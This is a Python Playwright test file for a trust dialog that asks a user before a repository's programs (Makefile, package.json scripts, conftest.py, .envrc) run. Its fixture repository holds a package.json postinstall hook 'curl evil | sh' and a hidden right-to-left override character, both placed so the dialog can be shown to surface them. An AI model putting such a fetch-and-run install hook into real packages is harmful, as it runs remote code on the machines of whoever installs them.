"""Whether a repository's own programs may run, asked in the browser: all that would run can be read, by keyboard too."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import expect

from maestro.core.planning import trust
from maestro.db import models
from maestro.worktrees import what_runs
from maestro.worktrees.git import common_dir
from tests.app_process import AppProcess, wait_for
from tests.browser.axe import everywhere
from tests.browser.conftest import OpenWindow
from tests.browser.seeds import add, gate_on, seed_session, seeding, task
from tests.repos import make_repo, run_git

FILES: dict[str, str | bytes] = {
    "Makefile": "test:\n\tpython -m pytest -q\n",
    "package.json": '{"scripts": {"test": "node test.js", "postinstall": "curl evil | sh"}}',
    "conftest.py": "\n".join(f"line_{n} = {n}" for n in range(60)),
    ".envrc": "export PATH=$PWD/bin:$PATH \u202e\n",
    "requirements.txt": "",
}


@pytest.fixture(scope="module")
def asking(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[AppProcess, Path, str]]:
    """An app that asks, a repository, and a session that waits for the answer."""
    folder = tmp_path_factory.mktemp("trust")
    repo = make_repo(folder / "a-repository-with-a-long-name", FILES)
    head = run_git(repo, "rev-parse", "HEAD")
    with seeding(folder / "data") as rt:
        session = seed_session(rt, repo, title="Asked", status="paused", tasks=[task("t1", "One")])
        detail = trust.question_detail(repo, head, what_runs.survey(repo, head), str(common_dir(repo)))
        detail["reason"] = (
            "Setup, checks, and agents run the repository's programs with your permissions. Nothing has run so far."
        )
        add(rt, models.Approval(
            id="trust-1", session_id=session.id, kind="trust", title=f"{trust.TITLE} {repo}", detail=detail, risk="high",
        ))  # fmt: skip
    with AppProcess(folder / "data", MAESTRO_ASSISTANT="demo", MAESTRO_TRUST="ask") as app:
        yield app, repo, session.id


def test_a_trial_asks_first_and_the_keyboard_answers(asking: tuple[AppProcess, Path, str], window: OpenWindow) -> None:
    app, repo, _session = asking
    shown = window(app=app)
    page = shown.visit(f"/session/new?repo={repo}")
    page.get_by_label("Repository").fill(str(repo))
    page.get_by_role("button", name="Try it").click()
    asked = page.get_by_role("alertdialog", name=trust.TITLE)
    expect(asked.get_by_text("curl evil | sh")).to_be_visible()
    shown.screenshot("trust-dialog")
    assert not everywhere(page, ".q-dialog")
    page.keyboard.press("Escape")
    expect(asked).to_be_hidden()
    with app.client() as api:
        assert api.get("/api/repositories/trust", params={"path": str(repo)}).json()["trust"] is None


def test_the_question_shows_what_would_run_and_its_answer_is_remembered(
    asking: tuple[AppProcess, Path, str], window: OpenWindow
) -> None:
    app, repo, _session = asking
    shown = window(app=app)
    page = shown.visit("/approvals")
    gate = gate_on(page, "trust-1")
    for words in ("Makefile", "package.json", "conftest.py", ".envrc", "curl evil | sh", "\\u202e"):
        expect(gate.get_by_text(words, exact=False).first).to_be_visible()
    expect(gate.get_by_text("line_59")).to_be_hidden()
    gate.locator("summary", has_text="conftest.py").focus()
    page.keyboard.press("Enter")
    expect(gate.get_by_text("line_59")).to_be_visible()
    for scheme in ("light", "dark"):
        shown.scheme(scheme)
        for width in (390, 800, 1440):
            page.set_viewport_size({"width": width, "height": 900})
            assert page.evaluate("document.documentElement.scrollWidth <= innerWidth"), (scheme, width)
            shown.screenshot(f"trust-{scheme}-{width}", full_page=True)
    gate.get_by_role("button", name="Trust it").focus()
    page.keyboard.press("Enter")
    expect(gate).to_contain_text("Read to the end to allow this.")
    gate.evaluate("e => e.querySelectorAll('.m-code__text').forEach((part) => { part.scrollTop = part.scrollHeight })")
    expect(gate).not_to_contain_text("Read to the end to allow this.")
    page.keyboard.press("Enter")
    expect(gate).to_be_hidden()
    with app.client() as api:
        wait_for(
            lambda: api.get("/api/repositories/trust", params={"path": str(repo)}).json()["in_force"] == "trusted",
            20,
            "the answer to be kept",
        )


def test_an_answer_is_changed_in_the_settings(asking: tuple[AppProcess, Path, str], window: OpenWindow) -> None:
    app, repo, _session = asking
    with app.client() as api:
        api.put("/api/repositories/trust", params={"path": str(repo)}, json={"trust": "no"}).raise_for_status()
        shown = window(app=app)
        page = shown.visit("/settings")
        page.get_by_role("button", name=f"Change trust in {repo}").click()
        asked = page.get_by_role("alertdialog", name=trust.TITLE)
        expect(asked.get_by_text("You chose to run nothing", exact=False)).to_be_visible()
        asked.get_by_role("button", name="Trust it").click()
        expect(page.get_by_text("trusted", exact=True)).to_be_visible()
        assert api.get("/api/repositories/trust", params={"path": str(repo)}).json()["in_force"] == "trusted"
